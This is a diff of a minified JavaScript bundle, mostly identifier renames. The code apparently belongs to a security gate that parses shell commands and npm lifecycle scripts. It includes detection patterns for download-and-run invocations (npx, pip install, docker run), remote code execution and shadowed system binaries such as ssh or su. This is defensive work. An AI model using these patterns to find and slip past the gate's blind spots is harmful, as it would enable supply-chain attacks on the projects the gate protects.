-!1)}return r}}),gI=256*1024,Tp=/^(?:[/~\\]|[A-Za-z]:)/;class Wc{#e;#t;constructor(e,n){this.#e=e,this.#t=n}into(e){const s=e===
-void 0||Tp.test(e)||/[$`]/.test(e)?[]:this.#t.map(r=>te.posix.join(r,e));return new Wc(this.#e,s)}find(e,n=[""]){if(!(/^[/~]/.
+!1)}return r}}),cI=256*1024,Ap=/^(?:[/~\\]|[A-Za-z]:)/;class Kc{#e;#t;constructor(e,n){this.#e=e,this.#t=n}into(e){const s=e===
+void 0||Ap.test(e)||/[$`]/.test(e)?[]:this.#t.map(r=>te.posix.join(r,e));return new Kc(this.#e,s)}find(e,n=[""]){if(!(/^[/~]/.
 test(e)||e===""||!this.#e))for(const s of this.#t)for(const r of n){const i=xe(te.posix.join(s,e.replaceAll("\\","/"))+r),
 o=i===void 0?void 0:Je(this.#e,i);if(o?.kind==="inside"&&mt(o.entry.kind)&&o.entry.tracked)return o.path}}script(e,n){const s=this.
-find(e,n);if(s!==void 0)return{kind:"file",name:s};if(Tp.test(e))return{kind:"outside",name:e};const[r]=this.#t;if(r===void 0)
+find(e,n);if(s!==void 0)return{kind:"file",name:s};if(Ap.test(e))return{kind:"outside",name:e};const[r]=this.#t;if(r===void 0)
 return{kind:"unread",name:`it runs ${e} in another directory`};const i=xe(te.posix.join(r,e));return i===void 0?{kind:"o\
 utside",name:e}:{kind:this.#e===void 0?"file":"missing",name:i||"."}}named(e,n){const s=this.find(e.replace(/^-{1,2}[\w-]+=/,
 ""),n);return s===void 0?[]:[{kind:"file",name:s}]}async manifest(){const e=this.find("package.json");return this.#e&&e?
-yt(await gs(this.#e,e)):{}}}async function Ip(t,e){const n=nr(t),[s,...r]=n;if(s===void 0||TI.has(s.text))return[];if(!s.
-isKnown)return[fc(`it starts ${s.shown}`)];const i=qs(s.text),o=ut(s.text),a=Ai(n);if(o?.kind==="shell"&&a)return a.words.
-every(({isKnown:y})=>y)||/\s/.test(a.text)?e.shell(a.text):[fc("a shell runs what it is handed")];const c=r.some(({text:C})=>pc(
-C)||hc(C));if(ri(s.text)&&(c||!Rp.has(i)))return yI(i,r,a!==void 0,e.files);const{files:l,left:u}=CI(r,e.files),d=u.map(
-({text:C})=>C),f=pc(s.text)&&!_I.test(s.text)?[e.files.script(s.text)]:await wI(i,d,{...e,files:l}),h=d.filter(hc).flatMap(
-C=>{const y=l.named(C);return y.length>0?y:e.files.named(C)}),m=SI.test(i)?u.findIndex(({text:C})=>ri(C)):-1,g=m<0?[]:await Ip(
-u.slice(m),{...e,files:l});return[...f,...g,...h]}function fc(t){return{kind:"unread",name:t}}const $p=/^(?:-C|--(?:cwd|dir|directory|prefix|workspace))(?:=(.*))?$/s;
-function CI(t,e){const n=t.findIndex(({text:i})=>$p.test(i));if(n<0)return{files:e,left:t};const s=$p.exec(t[n]?.text??"")?.[1],
-r=t.toSpliced(n,s===void 0?2:1);return{files:e.into(s??t[n+1]?.text),left:r}}function yI(t,e,n,s){const r=e.flatMap(({text:u})=>s.
-named(u));if(n)return[{kind:"inline",name:t},...r];const i=e.filter(({text:u})=>!u.startsWith("-")),o=i.find(({text:u})=>pc(
-u)||hc(u))??i[0],a={kind:"program",name:t};if(r.length>0||o===void 0)return r.length>0?r:[a];const{text:c}=o;if(!o.isKnown)
-return[fc(`it runs ${o.shown}`)];if(/^\w{2,}:/.test(c))return[{kind:"package",name:c,isExact:/@v?\d+\.\d+/.test(c)}];if(e[e.
-indexOf(o)-1]?.text!=="-m")return[s.script(c,Fp)];const l=s.named(c.replaceAll(".","/"),Fp);return l.length>0?l:[a]}async function wI(t,e,{
-files:n,shell:s}){const r=await n.manifest(),i=Rp.has(t)?EI(e):void 0,o=kI(i).flatMap(u=>{const d=dn(yt(r.scripts),u);return d===
-""?[]:[{kind:"npm_script",name:u,text:d}]}),a=await Promise.all(o.map(({text:u=""})=>s(u,n))),l=o.length>0&&!Np.test(i??
-"")?[]:bI([t,...e],r,n);return[...o,...a.flat(),...l]}function bI(t,e,n){const[s=""]=t,r=(AI.get(s)??[]).flatMap(u=>n.named(
-u));if(r.length>0)return r;const i=OI(t);if(i===void 0)return[{kind:"program",name:s}];const o=n.named(i.name);if(o.length>
+yt(await ms(this.#e,e)):{}}}async function Sp(t,e){const n=er(t),[s,...r]=n;if(s===void 0||_I.has(s.text))return[];if(!s.
+isKnown)return[Bc(`it starts ${s.shown}`)];const i=Ks(s.text),o=ut(s.text),a=Ai(n);if(o?.kind==="shell"&&a)return a.words.
+every(({isKnown:y})=>y)||/\s/.test(a.text)?e.shell(a.text):[Bc("a shell runs what it is handed")];const c=r.some(({text:C})=>hc(
+C)||fc(C));if(si(s.text)&&(c||!Ip.has(i)))return lI(i,r,a!==void 0,e.files);const{files:l,left:u}=uI(r,e.files),d=u.map(
+({text:C})=>C),f=hc(s.text)&&!fI.test(s.text)?[e.files.script(s.text)]:await dI(i,d,{...e,files:l}),h=d.filter(fc).flatMap(
+C=>{const y=l.named(C);return y.length>0?y:e.files.named(C)}),m=bI.test(i)?u.findIndex(({text:C})=>si(C)):-1,g=m<0?[]:await Sp(
+u.slice(m),{...e,files:l});return[...f,...g,...h]}function Bc(t){return{kind:"unread",name:t}}const Tp=/^(?:-C|--(?:cwd|dir|directory|prefix|workspace))(?:=(.*))?$/s;
+function uI(t,e){const n=t.findIndex(({text:i})=>Tp.test(i));if(n<0)return{files:e,left:t};const s=Tp.exec(t[n]?.text??"")?.[1],
+r=t.toSpliced(n,s===void 0?2:1);return{files:e.into(s??t[n+1]?.text),left:r}}function lI(t,e,n,s){const r=e.flatMap(({text:u})=>s.
+named(u));if(n)return[{kind:"inline",name:t},...r];const i=e.filter(({text:u})=>!u.startsWith("-")),o=i.find(({text:u})=>hc(
+u)||fc(u))??i[0],a={kind:"program",name:t};if(r.length>0||o===void 0)return r.length>0?r:[a];const{text:c}=o;if(!o.isKnown)
+return[Bc(`it runs ${o.shown}`)];if(/^\w{2,}:/.test(c))return[{kind:"package",name:c,isExact:/@v?\d+\.\d+/.test(c)}];if(e[e.
+indexOf(o)-1]?.text!=="-m")return[s.script(c,Np)];const l=s.named(c.replaceAll(".","/"),Np);return l.length>0?l:[a]}async function dI(t,e,{
+files:n,shell:s}){const r=await n.manifest(),i=Ip.has(t)?hI(e):void 0,o=pI(i).flatMap(u=>{const d=dn(yt(r.scripts),u);return d===
+""?[]:[{kind:"npm_script",name:u,text:d}]}),a=await Promise.all(o.map(({text:u=""})=>s(u,n))),l=o.length>0&&!$p.test(i??
+"")?[]:BI([t,...e],r,n);return[...o,...a.flat(),...l]}function BI(t,e,n){const[s=""]=t,r=(wI.get(s)??[]).flatMap(u=>n.named(
+u));if(r.length>0)return r;const i=yI(t);if(i===void 0)return[{kind:"program",name:s}];const o=n.named(i.name);if(o.length>
 0||/^[./]/.test(i.name))return o.length>0?o:[{kind:"program",name:s}];const{dependencies:a,devDependencies:c}=e;return[[
-a,c].some(u=>i.name in yt(u))?{kind:"program",name:i.name}:{kind:"package",...i}]}const _I=/^\/(?:usr\/(?:local\/)?|opt\/homebrew\/)?s?bin\/[^/]+$/;
-function hc(t){return Za(t)||/\.(?:exe|jar)$/i.test(t)}function pc(t){return/^[.~]{0,2}[\\/]|^[A-Za-z]:[\\/]|^[\w.@-]+[\\/]/.
-test(t)&&!t.includes("://")}const Rp=new Set(["npm","pnpm","yarn","bun"]);function EI(t){const[e,n]=t.filter(s=>!s.startsWith(
-"-"));return e==="run"||e==="run-script"?n:e}const Np=/^(?:add|ci|clean-install|i|install)$/;function kI(t){if(t===void 0)
-return[];const e=n=>[`pre${n}`,n,`post${n}`];return Np.test(t)?[...new Set([t,"install","prepare"].flatMap(e)),"prepubli\
-sh"]:e(t)}const Fp=["",".js",".mjs",".cjs",".ts","/index.js",".py","/__main__.py","/__init__.py"],vI=/^(?:npx|bunx|pnpx|uvx|(?:pnpm|yarn) dlx|npm (?:exec|x|i|install|add)|bun x|(?:pnpm|yarn|bun) add|uv tool run|pipx run|(?:uv )?pip3? install|(?:docker|podman)(?: container)? run|go (?:run|install)|(?:cargo|gem) install)$/,
-DI=/^(?:-[celuvw]|--(?:add-host|call|directory|entrypoint|env|env-file|index-url|label|mount|name|network|platform|prefix|publish|python|registry|user|volume|with|workdir|workspace))$/,
-xI=/.@v?\d+\.\d+\.\d+[\w.+-]*$|==\d+(?:\.\d+)+\w*$|@sha256:[0-9a-f]{64}$|[#@][0-9a-f]{40}$/;function OI(t){const e=t.filter(
-r=>!r.startsWith("-")),n=[3,2,1].find(r=>r<=e.length&&vI.test(e.slice(0,r).join(" ")));if(n===void 0)return;const s=t.slice(
-t.indexOf(e[n-1]??"")+1).map(r=>r.replace(/^--(?:from|package)=/,"")).find((r,i,o)=>!/^(?:-|[\d.:]+\w?$)/.test(r)&&!DI.test(
-o[i-1]??""));return s===void 0?void 0:{name:s,isExact:xI.test(s)}}const AI=new Map([["make",["GNUmakefile","makefile","M\
-akefile"]],["just",["justfile","Justfile",".justfile"]],["task",["Taskfile.yml","Taskfile.yaml"]]]),SI=/^(?:conda|hatch|mise|pdm|pipenv|pixi|poetry|rye|uv)$/,
-TI=new Set(`: [ [[ ]] } ) break case continue done echo esac exit export false fi for function in local
-  printf pwd read return set shift test true trap unset wait`.split(/\s+/)),II=4,$I={kind:"download",name:"it runs what \
-it downloads"};async function RI(t,e,n=0){if(n>II)return[{kind:"unread",name:"it is nested too deeply"}];const s=Kt(t);return s.
-length===0&&t.trim()!==""?[{kind:"unread",name:"it is too long"}]:[...ys(s).some(({name:i})=>i==="remote_code_execution")?
-[$I]:[],...await Lp(s,t,e,n)]}async function Lp(t,e,n,s){const r=[];let i=n;for(const o of t){if(r.push(...await Lp(o.inside,
+a,c].some(u=>i.name in yt(u))?{kind:"program",name:i.name}:{kind:"package",...i}]}const fI=/^\/(?:usr\/(?:local\/)?|opt\/homebrew\/)?s?bin\/[^/]+$/;
+function fc(t){return Ja(t)||/\.(?:exe|jar)$/i.test(t)}function hc(t){return/^[.~]{0,2}[\\/]|^[A-Za-z]:[\\/]|^[\w.@-]+[\\/]/.
+test(t)&&!t.includes("://")}const Ip=new Set(["npm","pnpm","yarn","bun"]);function hI(t){const[e,n]=t.filter(s=>!s.startsWith(
+"-"));return e==="run"||e==="run-script"?n:e}const $p=/^(?:add|ci|clean-install|i|install)$/;function pI(t){if(t===void 0)
+return[];const e=n=>[`pre${n}`,n,`post${n}`];return $p.test(t)?[...new Set([t,"install","prepare"].flatMap(e)),"prepubli\
+sh"]:e(t)}const Np=["",".js",".mjs",".cjs",".ts","/index.js",".py","/__main__.py","/__init__.py"],mI=/^(?:npx|bunx|pnpx|uvx|(?:pnpm|yarn) dlx|npm (?:exec|x|i|install|add)|bun x|(?:pnpm|yarn|bun) add|uv tool run|pipx run|(?:uv )?pip3? install|(?:docker|podman)(?: container)? run|go (?:run|install)|(?:cargo|gem) install)$/,
+gI=/^(?:-[celuvw]|--(?:add-host|call|directory|entrypoint|env|env-file|index-url|label|mount|name|network|platform|prefix|publish|python|registry|user|volume|with|workdir|workspace))$/,
+CI=/.@v?\d+\.\d+\.\d+[\w.+-]*$|==\d+(?:\.\d+)+\w*$|@sha256:[0-9a-f]{64}$|[#@][0-9a-f]{40}$/;function yI(t){const e=t.filter(
+r=>!r.startsWith("-")),n=[3,2,1].find(r=>r<=e.length&&mI.test(e.slice(0,r).join(" ")));if(n===void 0)return;const s=t.slice(
+t.indexOf(e[n-1]??"")+1).map(r=>r.replace(/^--(?:from|package)=/,"")).find((r,i,o)=>!/^(?:-|[\d.:]+\w?$)/.test(r)&&!gI.test(
+o[i-1]??""));return s===void 0?void 0:{name:s,isExact:CI.test(s)}}const wI=new Map([["make",["GNUmakefile","makefile","M\
+akefile"]],["just",["justfile","Justfile",".justfile"]],["task",["Taskfile.yml","Taskfile.yaml"]]]),bI=/^(?:conda|hatch|mise|pdm|pipenv|pixi|poetry|rye|uv)$/,
+_I=new Set(`: [ [[ ]] } ) break case continue done echo esac exit export false fi for function in local
+  printf pwd read return set shift test true trap unset wait`.split(/\s+/)),EI=4,kI={kind:"download",name:"it runs what \
+it downloads"};async function vI(t,e,n=0){if(n>EI)return[{kind:"unread",name:"it is nested too deeply"}];const s=Kt(t);return s.
+length===0&&t.trim()!==""?[{kind:"unread",name:"it is too long"}]:[...Cs(s).some(({name:i})=>i==="remote_code_execution")?
+[kI]:[],...await Rp(s,t,e,n)]}async function Rp(t,e,n,s){const r=[];let i=n;for(const o of t){if(r.push(...await Rp(o.inside,
 e,i,s)),o.subshell!==void 0)continue;if(o.defines){r.push({kind:"unread",name:"it defines a function"});continue}const{words:a,
-assignments:c}=ac(o),l=a.map(B=>({...B,shown:e.slice(B.span.start,B.span.end),isKnown:!Oi(o,B)}));r.push(...NI(c.map(({value:B})=>B),
-i));const[u,d]=l;u?.text==="cd"||u?.text==="pushd"?i=i.into(d?.isKnown?d.text:void 0):r.push(...await Pp(l,i,s))}return r}
-function Pp(t,e,n=0){return Ip(t,{files:e,shell:(r,i=e)=>RI(r,i,n+1)})}function NI(t,e){return t.flatMap(n=>n.split(/[\s=:,]+/)).
-flatMap(n=>e.named(n))}async function FI(t,e){const n=new Wc(e.tree,[e.directory]),s=t.map(c=>({...c,shown:c.text,isKnown:!0})),
-i=(await Pp(s,n)).flatMap(({kind:c,name:l})=>c==="file"?[l]:[]),o=t[0]?.span??{start:0,end:0},a={...e,directory:""};return Ie(
-i.map(c=>Va(a,{text:c,span:o})))}function LI(t,e,n){const s=en(Kt(t)),r=s.some(B=>B.substituted.length>0||[...B.words,...B.
-assignments].some(f=>Oi(B,f))),i=[...new Set(t.split(PI).filter(B=>B!==""))],o=[e.directory];for(const{words:B}of s){const[
+assignments:c}=oc(o),l=a.map(B=>({...B,shown:e.slice(B.span.start,B.span.end),isKnown:!Oi(o,B)}));r.push(...DI(c.map(({value:B})=>B),
+i));const[u,d]=l;u?.text==="cd"||u?.text==="pushd"?i=i.into(d?.isKnown?d.text:void 0):r.push(...await Fp(l,i,s))}return r}
+function Fp(t,e,n=0){return Sp(t,{files:e,shell:(r,i=e)=>vI(r,i,n+1)})}function DI(t,e){return t.flatMap(n=>n.split(/[\s=:,]+/)).
+flatMap(n=>e.named(n))}async function xI(t,e){const n=new Kc(e.tree,[e.directory]),s=t.map(c=>({...c,shown:c.text,isKnown:!0})),
+i=(await Fp(s,n)).flatMap(({kind:c,name:l})=>c==="file"?[l]:[]),o=t[0]?.span??{start:0,end:0},a={...e,directory:""};return Ie(
+i.map(c=>qa(a,{text:c,span:o})))}function OI(t,e,n){const s=en(Kt(t)),r=s.some(B=>B.substituted.length>0||[...B.words,...B.
+assignments].some(f=>Oi(B,f))),i=[...new Set(t.split(AI).filter(B=>B!==""))],o=[e.directory];for(const{words:B}of s){const[
 f,h]=B;if(!(!/^(?:cd|pushd)$/.test(f?.text??"")||h===void 0)&&(o.push(...o.flatMap(m=>xe(te.posix.join(m,h.text))??[])),
-o.length>jI))break}const a=[...e.changed],c=[...new Set(o)].flatMap(B=>i.map(f=>{const h={...e,directory:B},m=xe(te.posix.
-join(B,f));if(m===void 0)return Re;const g=Je(e.tree,m);if(g.kind==="inside"&&mt(g.entry.kind))return Va(h,{text:f,span:n});
+o.length>SI))break}const a=[...e.changed],c=[...new Set(o)].flatMap(B=>i.map(f=>{const h={...e,directory:B},m=xe(te.posix.
+join(B,f));if(m===void 0)return Ne;const g=Je(e.tree,m);if(g.kind==="inside"&&mt(g.entry.kind))return qa(h,{text:f,span:n});
 const C=a.filter(y=>/[*?[]/.test(f)?Bn(y,m,{dot:!0}):g.kind==="inside"&&m!==""&&xt(y,m));return Ie(C.map(y=>ae("target-c\
-hanged",n,{path:y})))})),l=r?a.filter(Za):[],{targets:u,problems:d}=Ie([...c,...l.map(B=>ae("target-changed",n,{path:B}))]);
+hanged",n,{path:y})))})),l=r?a.filter(Ja):[],{targets:u,problems:d}=Ie([...c,...l.map(B=>ae("target-changed",n,{path:B}))]);
 return{targets:[...new Map(u.map(B=>[B.path,B])).values()],problems:[...new Map(d.map(B=>[JSON.stringify(B.args),B])).values()]}}
-const PI=/[\s"'`;&|()<>=:,{}]+/,jI=16;async function MI({body:t,words:e,span:n},s,r){const i=sI(t,r),o=i.fault?en(i.commands).
-map(ac):i.commands,a=[];let{fault:c}=i,{directory:l}=s;for(const[B,f]of o.entries()){const h=!c||f.words.every(O=>!Oi(f,
+const AI=/[\s"'`;&|()<>=:,{}]+/,SI=16;async function TI({body:t,words:e,span:n},s,r){const i=W1(t,r),o=i.fault?en(i.commands).
+map(oc):i.commands,a=[];let{fault:c}=i,{directory:l}=s;for(const[B,f]of o.entries()){const h=!c||f.words.every(O=>!Oi(f,
 O)),m=B===o.length-1&&!i.fault,g=[...f.words.map(O=>({...O,span:n})),...m?e:[]],[C,y]=g;if(C?.text==="cd"){const O=y&&xe(
 rt({directory:l},y.text));(B>0||g.length!==2||O===void 0)&&(c??={part:"cd",why:"changes the directory in the middle, or \
-leaves the repository"}),l=O??l;continue}const b={...s,directory:l},D=fI(g);D&&(c??=await hI(D,b)),!(D||C===void 0||!h||
-wp(C.text))&&a.push({span:n,resolve:(O,v)=>zI(g,{...O,directory:b.directory},v)})}const u=o.some(({words:B})=>GI.test(B.
-map(({text:f})=>f).join(" "))),d=!c&&a.length===0&&o.length>0&&!u;return{parts:a,isIdle:d,...c&&{fault:c}}}const GI=/^(?:\[|exit (?!0$)|false|test )/,
-HI=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;async function zI(t,e,n){const s=Ap(t[0]?.text??"")?t:nr(t),[r,...i]=s;if(r===
-void 0)return Re;const{families:o}=e,a=hs(r.text)?r.text:o?.allowed.get(r.text),c=HI.exec(r.text)?.[1]??r.text,l=t[0]===
-r?void 0:t[0],u=l?mc(l):Re;if(a===void 0&&/[\\/]/.test(c))return Ie([u,await jp(s,e)]);const{invocation:d,problems:B}=a?
-Ua(a,i,o):Ua("npx",[{...r,text:c},...i],o),f=await n.resolve(d,e),h=a===void 0&&f.problems.some(({rule:C})=>C==="binary-\
-missing");if(h&&ha(c,o?.tools)!==void 0)return Ie([u,mc(r),{targets:[],problems:B}]);if(h)return Ie([u,await jp(s,e)]);const g=sp(
-d,e.directory);return Ie([u,{targets:[],problems:[...B,...g]},f])}function mc({text:t,span:e}){return ae("program-not-al\
-lowed",e,{program:t,group:"other"})}async function jp(t,e){const[n]=t;if(n===void 0)return Re;const s=t.find(({text:i,span:o})=>o.
+leaves the repository"}),l=O??l;continue}const b={...s,directory:l},D=rI(g);D&&(c??=await iI(D,b)),!(D||C===void 0||!h||
+Cp(C.text))&&a.push({span:n,resolve:(O,v)=>NI(g,{...O,directory:b.directory},v)})}const u=o.some(({words:B})=>II.test(B.
+map(({text:f})=>f).join(" "))),d=!c&&a.length===0&&o.length>0&&!u;return{parts:a,isIdle:d,...c&&{fault:c}}}const II=/^(?:\[|exit (?!0$)|false|test )/,
+$I=/^(?:\.\/)?node_modules\/\.bin\/([\w.-]+)$/;async function NI(t,e,n){const s=xp(t[0]?.text??"")?t:er(t),[r,...i]=s;if(r===
+void 0)return Ne;const{families:o}=e,a=hs(r.text)?r.text:o?.allowed.get(r.text),c=$I.exec(r.text)?.[1]??r.text,l=t[0]===
+r?void 0:t[0],u=l?pc(l):Ne;if(a===void 0&&/[\\/]/.test(c))return Ie([u,await Lp(s,e)]);const{invocation:d,problems:B}=a?
+za(a,i,o):za("npx",[{...r,text:c},...i],o),f=await n.resolve(d,e),h=a===void 0&&f.problems.some(({rule:C})=>C==="binary-\
+missing");if(h&&ha(c,o?.tools)!==void 0)return Ie([u,pc(r),{targets:[],problems:B}]);if(h)return Ie([u,await Lp(s,e)]);const g=tp(
+d,e.directory);return Ie([u,{targets:[],problems:[...B,...g]},f])}function pc({text:t,span:e}){return ae("program-not-al\
+lowed",e,{program:t,group:"other"})}async function Lp(t,e){const[n]=t;if(n===void 0)return Ne;const s=t.find(({text:i,span:o})=>o.
 start!==n.span.start&&(i.startsWith("-")||ut(n.text))),r=s?ae("npm-script-form",s.span,{script:e.via??"",text:t.map(({text:i})=>i).
-join(" "),part:n.text,why:"is a program that the gate does not read",words:[s.text]}):Re;return Ie([mc(n),r,await FI(t,e)])}
-function Mp(t,e,n,s){const{directory:r,event:i,words:o}=e;return s.follow(`${r}\0${i}`,`${dc(e)}\0${o.length}`,()=>JI(t,
-e,n,s),a=>UI(a,i,n))}function UI(t,e,n){return t.why==="cycle"?ae("npm-script-cycle",n,{script:e}):ae("npm-script-chain",
-n,{script:e,limit:t.limit,what:t.why})}async function JI(t,e,n,s){const{event:r,body:i,words:o}=e,a=dc(e),c={targets:[mi(
-t,{kind:"npm_script",name:r,script:a})],problems:[]},l=V1(a);if(l!==void 0)return Ie([c,ae("npm-script-dangerous",n,{script:r,
-text:a,danger:l})]);const u={...t,via:r},d=Mn(t.tree,t.directory),{parts:B,fault:f,isIdle:h}=await MI({body:i,words:o,span:n},
-u,d),m=await ZI(t,e),g=[c];let C=f!==void 0;for(const y of B){const{problems:b,targets:D}=await y.resolve(u,s),{kept:O,refused:v}=WI(
-b,o);if(g.push({targets:D,problems:O.map(qI(m))}),v===void 0)continue;const I=Hp(v)&&!Gp(v);C||=I;const _=I&&!m?"error":
+join(" "),part:n.text,why:"is a program that the gate does not read",words:[s.text]}):Ne;return Ie([pc(n),r,await xI(t,e)])}
+function Pp(t,e,n,s){const{directory:r,event:i,words:o}=e;return s.follow(`${r}\0${i}`,`${lc(e)}\0${o.length}`,()=>FI(t,
+e,n,s),a=>RI(a,i,n))}function RI(t,e,n){return t.why==="cycle"?ae("npm-script-cycle",n,{script:e}):ae("npm-script-chain",
+n,{script:e,limit:t.limit,what:t.why})}async function FI(t,e,n,s){const{event:r,body:i,words:o}=e,a=lc(e),c={targets:[mi(
+t,{kind:"npm_script",name:r,script:a})],problems:[]},l=G1(a);if(l!==void 0)return Ie([c,ae("npm-script-dangerous",n,{script:r,
+text:a,danger:l})]);const u={...t,via:r},d=Mn(t.tree,t.directory),{parts:B,fault:f,isIdle:h}=await TI({body:i,words:o,span:n},
+u,d),m=await LI(t,e),g=[c];let C=f!==void 0;for(const y of B){const{problems:b,targets:D}=await y.resolve(u,s),{kept:O,refused:v}=jI(
+b,o);if(g.push({targets:D,problems:O.map(MI(m))}),v===void 0)continue;const I=Mp(v)&&!jp(v);C||=I;const _=I&&!m?"error":
 void 0,$={script:r,text:a,reason:v.rule};f||g.push(ae("npm-script-text",y.span,$,_))}if(h&&g.push(ae("only-prints",n,{program:"\
-npm",flag:`run ${r}`})),f===void 0)g.push(KI(o));else{const y=m&&o.length===0?"notice":void 0,b={script:r,text:a,...f,words:o.
-map(D=>D.text)};g.push(ae("npm-script-form",o[0]?.span??n,b,y))}return C&&m&&g.push(LI(i,u,n)),Ie(g)}async function ZI({
+npm",flag:`run ${r}`})),f===void 0)g.push(PI(o));else{const y=m&&o.length===0?"notice":void 0,b={script:r,text:a,...f,words:o.
+map(D=>D.text)};g.push(ae("npm-script-form",o[0]?.span??n,b,y))}return C&&m&&g.push(OI(i,u,n)),Ie(g)}async function LI({
 base:t,directory:e,changed:n},{event:s,body:r}){return(t&&(await Jt(t,e))?.scripts.get(s))===r&&(!n.has(rt({directory:e},
-"package.json"))||!/npm_/.test(r))}function KI(t){const e=t.flatMap(n=>ln(`x ${Op(n.text)}`).problems.map(s=>({...s,span:n.
-span})));return{targets:[],problems:e}}function WI(t,e){const n=({span:o})=>e.some(a=>VI(a.span,o)),s=t.filter(o=>n(o)||
-XI(o)),r=t.filter(o=>!s.includes(o)),i=r.filter(Hp);return{kept:s,refused:i.find(o=>!Gp(o))??i[0]??r[0]}}function Gp({rule:t}){
-return t==="program-not-allowed"}function qI(t){return e=>t&&e.rule==="tool-unknown"?{...e,severity:"notice"}:e}function VI(t,e){
-return t.start<e.end&&t.end>e.start}function Hp({severity:t}){return t==="error"}const YI=new Set(["build-files-unread",
+"package.json"))||!/npm_/.test(r))}function PI(t){const e=t.flatMap(n=>ln(`x ${Dp(n.text)}`).problems.map(s=>({...s,span:n.
+span})));return{targets:[],problems:e}}function jI(t,e){const n=({span:o})=>e.some(a=>GI(a.span,o)),s=t.filter(o=>n(o)||
+zI(o)),r=t.filter(o=>!s.includes(o)),i=r.filter(Mp);return{kept:s,refused:i.find(o=>!jp(o))??i[0]??r[0]}}function jp({rule:t}){
+return t==="program-not-allowed"}function MI(t){return e=>t&&e.rule==="tool-unknown"?{...e,severity:"notice"}:e}function GI(t,e){
+return t.start<e.end&&t.end>e.start}function Mp({severity:t}){return t==="error"}const HI=new Set(["build-files-unread",
 "dependency-not-compared","dependency-redirected","target-changed","target-writes","not-installed","only-prints","tool-r\
-uns-file","tool-unknown","workspaces-changed"]);function XI({rule:t,args:e}){return t==="dependency-unverified"?"fault"in
-e&&["removed","stale"].includes(e.fault):YI.has(t)||t.startsWith("npm-script-")||t.startsWith("npmrc-")}const zp=Qt(async t=>{
-const e=await Yh(t,""),n=Array.isArray(e)?e.map(({directory:a})=>a):[],{npm:s,unread:r}=await Zt(t),i=(s?.all??[]).flatMap(
-({source:a})=>a.kind==="file"?xe(a.at)??[]:[]),o=r.length>0?await QI(t):[];return[...new Set([...n,...i,...o])].filter(a=>a!==
-"")});async function QI(t){const e=await Jt(t,""),n=Wr(t,"package.json").map(({path:r})=>te.posix.dirname(r)),s=[];for(const r of n){
-const i=r==="."?void 0:await Jt(t,r);i!==void 0&&e?.dependencies.has(i.name)&&s.push(r)}return s}const gc=Qt(async t=>{const e=new Map;
-for(const n of await zp(t)){const s=await Jt(t,n);for(const[r,i]of s?.binaries??[]){const o=te.posix.join(n,i);e.set(te.
-posix.basename(r),{file:o,manifest:te.posix.join(n,"package.json")})}}return e}),Up=new Set([...mO,...`[ alias awk basen\
+uns-file","tool-unknown","workspaces-changed"]);function zI({rule:t,args:e}){return t==="dependency-unverified"?"fault"in
+e&&["removed","stale"].includes(e.fault):HI.has(t)||t.startsWith("npm-script-")||t.startsWith("npmrc-")}const Gp=Qt(async t=>{
+const e=await qh(t,""),n=Array.isArray(e)?e.map(({directory:a})=>a):[],{npm:s,unread:r}=await Zt(t),i=(s?.all??[]).flatMap(
+({source:a})=>a.kind==="file"?xe(a.at)??[]:[]),o=r.length>0?await UI(t):[];return[...new Set([...n,...i,...o])].filter(a=>a!==
+"")});async function UI(t){const e=await Jt(t,""),n=Zr(t,"package.json").map(({path:r})=>te.posix.dirname(r)),s=[];for(const r of n){
+const i=r==="."?void 0:await Jt(t,r);i!==void 0&&e?.dependencies.has(i.name)&&s.push(r)}return s}const mc=Qt(async t=>{const e=new Map;
+for(const n of await Gp(t)){const s=await Jt(t,n);for(const[r,i]of s?.binaries??[]){const o=te.posix.join(n,i);e.set(te.
+posix.basename(r),{file:o,manifest:te.posix.join(n,"package.json")})}}return e}),Hp=new Set([...fO,...`[ alias awk basen\
 ame cargo chgrp chown cksum clear cmp comm cut date dd df dirname du expr fg
   file find fmt fold gawk getopts git gzip hash hostname id install join jobs kill killall ln local
   logname make md5sum mkdir mkfifo mktemp node nl npm npx od open paste patch pkill printf ps pwd
   read readlink realpath rmdir rsync seq set sha256sum shift sleep sort split ssh stat stty su sum
   sync tar tee tr trap tty type umask uname uniq unlink unzip uptime users wait watch which who
-  whoami xargs yes zip`.split(/\s+/)]),e$=new Set(["node","npm","npx","sh"]);async function Jp(t,e){const{tree:n,base:s}=t,
-r=await gc(n),i=s&&await gc(s),o=[...r].flatMap(([c,{manifest:l}])=>Up.has(c)?[Zp(c,l,i?.has(c)===!0,e)]:[]),a=[];for(const c of er(
-t.directory)){const l=await t$(n,te.posix.join(c,"node_modules/.bin"));for(const{name:u,path:d,isLocked:B}of l)a.push(Zp(
-u,d,B,e))}return Ie([...o,...a])}function Zp(t,e,n,s){return n?e$.has(t)?ae("program-replaced",s,{name:t,path:e},"warnin\
-g"):Re:ae("program-replaced",s,{name:t,path:e})}const t$=Js(async(t,e)=>{const n=[];for(const{path:s}of t.list(e)){const r=te.
-posix.basename(s).replace(/\.(?:cmd|exe|ps1)$/,"");if(!Up.has(r))continue;const i=Je(t,s);if(i.kind!=="inside")continue;
-const o=i.path===s?await n$(t,i.entry):i.path,a=o!==void 0&&/node_modules\/(?!\.bin\/)/.test(o);n.push({name:r,path:s,isLocked:a&&
-!i.entry.tracked})}return n});async function n$(t,{path:e,size:n=0}){if(n>s$)return;const s=(await t.read(e)).toString("\
-utf8"),[,r]=/"\$basedir\/([^"\n]+)"\s+"\$@"/.exec(s)??[];return r&&te.posix.join(te.posix.dirname(e),r)}const s$=16*1024,
-r$=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(t=>`.${t}`)];async function i$(t,e){return Kp(t.tool??
-{files:[],roots:[],nodeFlags:[]},e)}function o$({files:t=[],flags:e,family:n},s){const r=e.flatMap(({name:i,value:o})=>o&&
-n&&mf(n,i)?o:[]);return Kp({files:t,roots:r,nodeFlags:[]},s)}async function Kp({files:t,roots:e,nodeFlags:n},s){const r=[
-"",...e].flatMap(o=>{const a=xe(rt(s,o));return a===void 0?[]:[a]}),i=[];for(const o of t)i.push(o.as==="tests"?await u$(
-o,s):await a$(o,[...new Set(r)],s));for(const o of n)i.push(await dp(o,s));return Ie(i)}async function a$(t,e,n){const{as:s,
+  whoami xargs yes zip`.split(/\s+/)]),JI=new Set(["node","npm","npx","sh"]);async function zp(t,e){const{tree:n,base:s}=t,
+r=await mc(n),i=s&&await mc(s),o=[...r].flatMap(([c,{manifest:l}])=>Hp.has(c)?[Up(c,l,i?.has(c)===!0,e)]:[]),a=[];for(const c of Xs(
